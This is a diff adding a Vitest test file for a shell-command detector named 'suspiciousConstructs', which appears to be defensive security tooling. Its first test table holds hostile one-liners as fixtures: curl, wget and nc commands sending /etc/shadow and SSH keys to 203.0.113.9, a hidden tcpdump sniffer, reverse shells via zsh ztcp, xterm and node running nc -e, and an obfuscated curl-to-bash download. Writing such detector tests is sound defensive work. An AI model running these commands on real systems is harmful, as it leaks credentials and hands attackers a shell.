@@ -1,0 +1,35 @@
+import { describe, expect, test } from 'vitest';
+import { suspiciousConstructs } from '../../source/parsers/suspicious-constructs.ts';
+
+const kinds = (text: string) => suspiciousConstructs(text).filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ kind, severity }) => `${severity} ${kind}`);
+
+describe('what leaves the host', () => {
+	test.each([
+		['tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u', 'medium data-sent'],
+		['curl -s -F f=@/etc/shadow http://203.0.113.9/u', 'high data-sent'],
+		['curl --data-binary @/etc/shadow https://collect.example.net/u', 'medium data-sent'],
+		['wget --post-file=/root/.ssh/id_rsa http://203.0.113.9/', 'high data-sent'],
+		['nc 203.0.113.9 53 < /etc/shadow', 'high data-sent'],
+		['timeout 3500 tcpdump -i any -w /var/tmp/.c.pcap port 21', 'high sniffer-run'],
+		['xterm -display 203.0.113.9:1', 'high reverse-shell'],
+		["zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'critical reverse-shell'],
+		['node -e "require(\'child_process\').exec(\'nc -e /bin/sh 203.0.113.9 4444\')"', 'critical reverse-shell'],
+		["a=cu;b=rl;$a$b -s http://203.0.113.9/k|ba''sh", 'high download-run'],
+	])('%s', (text, expected) => {
+		expect(kinds(text)).toContain(expected);
+	});
+
+	test.each([
+		['tar cz /home/ada | ssh nas "cat > a.tgz"'],
+		['curl -fsS -T report.csv https://files.example.org/in/'],
+		['pg_dump app | curl -T - http://10.0.0.9/dumps/app.sql'],
+		['rsync -a /etc/ backup@nas.example.org:etc/'],
+		['tcpdump -i eth0 -w /root/capture.pcap port 53'],
+		['tcpdump -n -i eth0 > /dev/null'],
+		['xterm -display :0'],
+		['CURL=curl; $CURL -s https://example.org/x -o /srv/x'],
+		['a=1;b=2; echo $a$b'],
+	])('is nothing to tell in %s', text => {
+		expect(kinds(text)).toEqual([]);
+	});
+});
